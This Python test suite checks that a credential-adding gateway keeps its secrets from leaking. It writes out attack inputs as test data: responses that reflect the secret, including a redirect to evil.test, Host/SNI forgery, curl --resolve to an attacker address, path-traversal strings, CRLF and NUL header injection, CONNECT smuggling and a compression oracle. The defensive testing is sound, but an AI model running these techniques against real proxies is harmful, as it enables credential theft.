"""Credentials that the gateway adds: fetched by an upstream that shows them, sent where they do not belong, asked for by their placeholder.
The detectors are the internet's log (who got the secret) and the secret itself in anything that the guest sees."""

import re
import statistics

from framework import attack
from gate import Gate, command, get, h2, raw
from hostile_servers import do

CHUNKED = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"


def sized(text, head="HTTP/1.1 200 OK\r\n"):
    """An answer whose length nobody has to know: it ends with the connection. The line's end, because what the gateway holds back goes with a broken connection."""
    return f"{head}Connection: close\r\n\r\n{text}\n"


@attack("E02", conditions=("partial",), seconds=150, quick=True)
def reflected(t):
    """The upstream shows what it got: in bodies, heads, redirects, chunks, compressed, encoded, cut in two"""
    world, secret = t.world, t.world.secrets["a credential"]
    gate = Gate(t, world.sandbox())

    def leaked(seen):
        return world.secrets_in(seen.out.encode("latin1"))

    def stars(seen):
        return secret in str(seen.arrived) and "*" * 20 in seen.out and not leaked(seen)
    places = {
        "the body": sized("before {auth} after"), "the body, as JSON": sized("{\"a\":{authjson}}"), "the body, percent-encoded": sized("x={authpct}&y"), "the body, as base64": sized("{auth64}"),
        "a field": "HTTP/1.1 200 OK\r\nX-Echo: {auth}\r\nContent-Length: 0\r\n\r\n", "Set-Cookie": "HTTP/1.1 200 OK\r\nSet-Cookie: a={authpct}\r\nContent-Length: 0\r\n\r\n",
        "Location": "HTTP/1.1 302 Found\r\nLocation: https://evil.test/?h={authpct}\r\nContent-Length: 0\r\n\r\n", "an error page": "HTTP/1.1 400 Bad Request\r\nConnection: close\r\n\r\nbad request: Authorization: {auth}\n"}
    for where, answer in places.items():
        gate.control(f"shown in {where}: it is taken out", get("odd.secret.test", do(answer), sni="odd.secret.test"), stars)
    hidden = {
        "the reason phrase": "HTTP/1.1 200 {auth}\r\nContent-Length: 0\r\n\r\n", "a field's name": "HTTP/1.1 200 OK\r\nX-{auth}: 1\r\nContent-Length: 0\r\n\r\n", "an interim answer": "HTTP/1.1 103 Early Hints\r\nLink: {auth}\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
        "two writes": None, "a chunk's extension": CHUNKED + "2;x={auth}\r\nok\r\n0\r\n\r\n", "a trailer": CHUNKED + "2\r\nok\r\n0\r\nX-T: {auth}\r\n\r\n", "compressed": "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n{gzip:a {auth} b}",
        "a content type": "HTTP/1.1 200 OK\r\nContent-Type: text/{auth}\r\nContent-Length: 0\r\n\r\n", "an answer without a head": "{auth}", "two bodies": sized("{auth} {auth} {auth64} {authpct}"), "a status line of old": "HTTP/1.0 200 OK\r\n\r\n{auth}",
        "an event stream": "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\ndata: {auth}\n\n", "a WebSocket answer": "HTTP/1.1 101 Switching Protocols\r\nX: {auth}\r\n\r\n{auth}"}
    for where, answer in hidden.items():
        steps = [answer] if answer else ["HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nBear", 0.2, "er {auth}"]
        gate.attempt(f"shown in {where}", get("odd.secret.test", do(*steps), sni="odd.secret.test", all=True, wait=3), leaked)
    for length in (0, 1, 2, 3, 5, 7):  # base64 of the secret after so many other bytes
        gate.attempt(f"base64 of {length} bytes and the secret", get("odd.secret.test", do(sized("{auth64:%d}" % length)), sni="odd.secret.test"), leaked)
    for method in ("TRACE", "TRACK", "OPTIONS"):
        gate.attempt(f"{method}", get("odd.secret.test", do(sized("{auth}")), sni="odd.secret.test", method=method), leaked)
    gate.attempt("a range of the answer", get("odd.secret.test", do(sized("{auth}")), sni="odd.secret.test", headers="Range: bytes=0-3\r\n"), lambda seen: leaked(seen) or any("Range" in entry.get("headers", {}) for entry in seen.arrived))
    gate.attempt("a coding that the guest asks for", get("odd.secret.test", do(sized("{auth}")), sni="odd.secret.test", headers="Accept-Encoding: br, gzip\r\n"), lambda seen: leaked(seen) or any("br" in entry.get("headers", {}).get("Accept-Encoding", "") for entry in seen.arrived))
    gate.attempt("curl follows a redirect that shows it", command(f"curl -sS -L -m 12 'https://odd.secret.test{do('HTTP/1.1 302 Found' + chr(13) + chr(10) + 'Location: https://odd.test/?h={authpct}' + chr(13) + chr(10) + 'Content-Length: 0' + chr(13) + chr(10) + chr(13) + chr(10))}'"), leaked)
    gate.go()
    carried = [entry for entry in world.net.since(world.mark) if secret in str(entry)]
    t.attempt("another host got it", [entry for entry in carried if entry.get("host") != "odd.secret.test" or not entry.get("tls")], str(carried)[-200:])


@attack("E03", "E04", "E06", "E07", "C27", conditions=("partial",), seconds=150)
def elsewhere(t):
    """Another host's connection, a forged destination, another port, path or method, a redirect"""
    world, secret = t.world, t.world.secrets["a credential"]
    gate, evil = Gate(t, world.sandbox()), world.net.evil

    def got(seen):
        return secret in str(seen.arrived)
    gate.control("its own host gets it", get("api.secret.test", "/v1/{m}", sni="api.secret.test"), got)
    gate.control("curl as well", command("curl -sS -m 15 https://api.secret.test/v1/{m}"), got)
    gate.control("by POST as well", raw("api.secret.test", "POST /v1/{m} HTTP/1.1\r\nHost: api.secret.test\r\nContent-Length: 2\r\n\r\nhi", sni="api.secret.test"), got)
    plain = "GET /v1/{m} HTTP/1.1\r\nHost: api.secret.test\r\n\r\n"
    gate.attempt("E03: the attacker's address with its Host", raw(evil, plain), got)
    gate.attempt("E03: its own host in the clear", raw("api.secret.test", plain), got)
    gate.attempt("E03: its name on another port", raw("api.secret.test", plain, port=8443, sni="api.secret.test"), got)
    for sni in ("allowed.test", "api.secret.test", "odd.test"):
        for host in ("allowed.test", "odd.test", "cdn-ok.test"):
            gate.attempt(f"E04: its Host on a connection to {host} with SNI {sni}", raw(host, plain, sni=sni), got)
    for host in ("allowed.test", "evil.test", "odd.test"):
        gate.attempt(f"E04: its SNI with Host {host}", get("api.secret.test", "/v1/{m}", sni="api.secret.test", named=host), got)
    gate.attempt("E04: two Hosts", get("api.secret.test", "/v1/{m}", sni="api.secret.test", headers="Host: allowed.test\r\n"), got)
    gate.attempt("E04: an absolute URL of it elsewhere", raw("allowed.test", "GET https://api.secret.test/v1/{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n", sni="allowed.test"), got)
    gate.attempt("E06: its name at the attacker's address", command(f"curl -k -sS -m 8 --resolve api.secret.test:443:{evil} https://api.secret.test/v1/{{m}}"), lambda seen: seen.at("evil"))
    gate.attempt("E06: its name at another allowed server's address", command("A=$(getent hosts allowed.test | cut -d' ' -f1); curl -k -sS -m 8 --resolve api.secret.test:443:$A https://api.secret.test/v1/{m}"), lambda seen: got(seen) and not all(entry.get("host") == "api.secret.test" for entry in seen.arrived))
    for path in ("/admin/{m}", "/v10/{m}", "/V1/{m}", "/v1/../admin/{m}", "/v1/%2e%2e/admin/{m}", "/v1;x/../admin/{m}", "/v1/..;/admin/{m}", "//v1/{m}", "/admin?/v1/{m}", "/%76%31%2f{m}"):
        gate.attempt(f"E07: the path {path}", get("api.secret.test", path, sni="api.secret.test"), got)
    for method in ("DELETE", "PUT", "PATCH", "OPTIONS", "get", "PROPFIND"):
        gate.attempt(f"E07: the method {method}", get("api.secret.test", "/v1/{m}", sni="api.secret.test", method=method), got)
    gate.go()
    # Few at a time: each curl reads all authorities first, and on a busy machine eight of them come to nothing.
    gate = Gate(t, world.sandbox(), threads=2)
    for status in ("302 Found", "307 Temporary Redirect", "308 Permanent Redirect"):
        for place in ("https://odd.test/followed-{m}", "https://allowed.test/followed-{m}", "http://odd.secret.test/followed-{m}", "https://evil.test/followed-{m}"):
            to = do(f"HTTP/1.1 {status}\r\nLocation: {place.replace('{m}', 'on')}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            gate.attempt(f"C27: {status} to {place.split('/followed')[0]}", command(f"curl -sS -L -m 20 --post301 --post302 -d body https://odd.secret.test{to}"), lambda seen: False)
    gate.go()
    for entry in world.net.since(world.mark):
        if str(entry.get("path", "")).startswith("/followed"):
            t.attempt(f"C27: a redirect carries it to {entry.get('host')}", secret in str(entry), str(entry)[:200])
    wrong = [entry for entry in world.net.since(world.mark) if secret in str(entry) and not (entry.get("tls") and entry.get("host") in ("api.secret.test", "odd.secret.test"))]
    t.attempt("another host, or a connection in the clear, got it", wrong, str(wrong)[:300])
    followed = [entry for entry in world.net.since(world.mark) if str(entry.get("path", "")).startswith("/followed")]
    t.control("C27: redirects to allowed hosts were followed", len(followed) >= 3, len(followed))


@attack("E08", "E10", "E11", "E12", conditions=("partial",), seconds=150, quick=True)
def placeholders(t):
    """Placeholders where they are not replaced, values beside the secret, fields that are there already"""
    world = t.world
    one, other = world.secrets["a credential"], world.secrets["another credential"]
    gate = Gate(t, world.sandbox())
    mine, query = "PLACEHOLDER-OTHER", "PLACEHOLDER-QUERY"

    def got(seen):
        return other in str(seen.arrived)
    gate.control("the placeholder in its place is replaced", get("other.secret.test", "/{m}", sni="other.secret.test", headers=f"X-Api-Key: {mine}\r\n"), got)
    gate.control("in the query as well", get("other.secret.test", f"/{{m}}?key={query}", sni="other.secret.test"), got)
    gate.control("without it nothing is put in", get("other.secret.test", "/{m}", sni="other.secret.test"), lambda seen: seen.arrived and not got(seen))
    for host in ("api.secret.test", "odd.secret.test", "allowed.test", "odd.test"):
        for where, step in {"a field": get(host, "/v1/{m}", sni=host, headers=f"X-Api-Key: {mine}\r\n"), "Authorization": get(host, "/v1/{m}", sni=host, headers=f"Authorization: Bearer {mine}\r\n"), "the query": get(host, f"/v1/{{m}}?key={query}", sni=host)}.items():
            # Where another credential takes its place the request goes on, without it.
            gate.attempt(f"E08: the placeholder in {where} to {host}", step, lambda seen: got(seen) or mine in str(seen.arrived) or query in str(seen.arrived))
    for where, headers in {"another field": f"X-Other: {mine}\r\n", "a cookie": f"Cookie: a={mine}\r\n", "the user agent": f"User-Agent: {mine}\r\n", "two fields": f"X-Api-Key: {mine}\r\nX-Api-Key: {mine}\r\n", "the other place's": f"X-Api-Key: {query}\r\n",
                           "a field's name": f"{mine}: x\r\n"}.items():
        gate.attempt(f"E08: at its own host, in {where}", get("other.secret.test", "/{m}", sni="other.secret.test", headers=headers), got)
    for target in (f"/{mine}/{{m}}", f"/{{m}}?other={query}", f"/{{m}}?key={query}x", f"/{{m}}?key=x{query}", f"/{{m}}?key=%50LACEHOLDER-QUERY&other={query}", f"/{{m}}?k%65y={query}", f"/{{m}}#{query}"):
        gate.attempt(f"E08: at its own host, as {target}", get("other.secret.test", target, sni="other.secret.test"), lambda seen: got(seen) and not all(f"?key={other}" in entry["path"] or f"k%65y={other}" in entry["path"] for entry in seen.arrived))
    gate.attempt("E08: in the clear", get("other.secret.test", "/{m}", headers=f"X-Api-Key: {mine}\r\n"), got)
    for field in ("Proxy-Authorization", "User-Agent", "X-Api-Key"):
        gate.attempt(f"E10: CONNECT with the placeholder in {field}", raw("proxy.test", f"CONNECT other.secret.test:443 HTTP/1.1\r\nHost: proxy.test\r\n{field}: {mine}\r\nX: {{m}}\r\n\r\n"), lambda seen: seen.arrived)
        gate.attempt(f"E10: CONNECT to its own host, {field}", raw("other.secret.test", f"CONNECT other.secret.test:443 HTTP/1.1\r\nHost: other.secret.test\r\n{field}: {mine}\r\nX: {{m}}\r\n\r\n", sni="other.secret.test"), lambda seen: seen.arrived)
    for what, headers in {"a bare CR": f"X-Api-Key: {mine}\rX-Leak: 1\r\n", "a bare LF": f"X-Api-Key: {mine}\nX-Leak: 1\r\n", "NUL": f"X-Api-Key: {mine}\0X-Leak: 1\r\n", "a fold": f"X-Api-Key: {mine}\r\n X-Leak: 1\r\n"}.items():
        gate.attempt(f"E11: {what} beside the placeholder", get("other.secret.test", "/{m}", sni="other.secret.test", headers=headers), lambda seen: seen.arrived)
    gate.attempt("E11: an escaped line break beside it", get("other.secret.test", f"/{{m}}?key={query}%0d%0aHost:%20evil.test", sni="other.secret.test"), lambda seen: any(len([line for line in entry["lines"] if line.lower().startswith("host:")]) != 1 or entry["host"] != "other.secret.test" for entry in seen.arrived))
    for what, headers in {"its own": "Authorization: Bearer guest-{m}\r\n", "two": "Authorization: Bearer guest-{m}\r\nAuthorization: Basic guest-{m}\r\n", "lower case": "authorization: Bearer guest-{m}\r\n", "odd case": "aUTHORIZATION: guest-{m}\r\n",
                          "with a space": "Authorization : guest-{m}\r\n", "folded": "Authorization:\r\n guest-{m}\r\n", "for a proxy": "Proxy-Authorization: guest-{m}\r\n"}.items():
        gate.attempt(f"E12: the guest's {what} beside the credential", get("odd.secret.test", "/x", sni="odd.secret.test", headers=headers), lambda seen: any("guest-" in str(entry["lines"]) for entry in seen.arrived))
    gate.control("E12: beside it another field of the guest's passes", get("odd.secret.test", "/{m}", sni="odd.secret.test", headers="X-Mine: guest-{m}\r\n"), lambda seen: "guest-" in str(seen.arrived) and one in str(seen.arrived))
    gate.attempt("E12: in HTTP/2 the guest's authorization beside nothing", h2([[[":method", "GET"], [":scheme", "https"], [":authority", "h2.test"], [":path", "/{m}"], ["x-api-key", mine]]]), lambda seen: seen.arrived)
    gate.go()
    api = world.attacker
    for what, value in {"CR": b"secret-value\rX: y", "LF": b"secret-value\nX: y", "NUL": b"secret\0value", "nothing": b"", "seven bytes": b"1234567", "9 kB": b"x" * 9000, "DEL": b"secret\x7fvalue"}.items():
        answer = api.call("PUT", "/v1/credentials/odd", value, {"Content-Type": "application/octet-stream"})
        t.attempt(f"E11: a credential with {what} is taken", answer.status < 400, answer.status)
    t.control("E11: a plain one is taken", api.call("PUT", "/v1/credentials/odd", b"a-plain-secret", {"Content-Type": "application/octet-stream"}).status < 300)
    api.call("DELETE", "/v1/credentials/odd")


@attack("E26", conditions=("partial",), seconds=150)
def oracles(t):
    """Lengths and times with and without the credential, compression of secret and guest text together"""
    world = t.world
    gate = Gate(t, world.sandbox(), threads=4)
    gate.control("the credential is put in", get("odd.secret.test", "/x", sni="odd.secret.test", headers="X: {m}\r\n"), lambda seen: world.secrets["a credential"] in str(seen.arrived))
    wrong = [f"CANARY-{c * 17}" for c in "0123456789abcdef"]
    right = [(world.secrets["a credential"][:n]).rjust(24, "x") for n in (8, 12, 16, 20, 24)]
    for guess in wrong + right:
        answer = do("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n{auth} " + guess, 0.4, " end\n")
        gate.attempt(f"the guess {guess}", get("odd.secret.test", answer, sni="odd.secret.test", headers="X: {m}\r\nAccept-Encoding: gzip\r\n"),
                     lambda seen: "content-encoding" in seen.out.lower() or any("gzip" in entry["headers"].get("Accept-Encoding", "") for entry in seen.arrived))
    seen = gate.go()

    def pieces(guess):
        """The sizes of the chunks that the guest got."""
        return tuple(int(size, 16) for size in re.findall("\r\n([0-9a-f]+)\r\n", seen[f"the guess {guess}"].out))
    t.control("all were answered", all(sum(pieces(guess)) > 50 for guess in wrong + right), [pieces(guess) for guess in wrong + right])
    usual, told = statistics.mode(map(pieces, wrong)), statistics.mode(map(pieces, right))
    t.attempt("the pieces of an answer tell a right guess", told != usual, f"{told}, others {usual}")
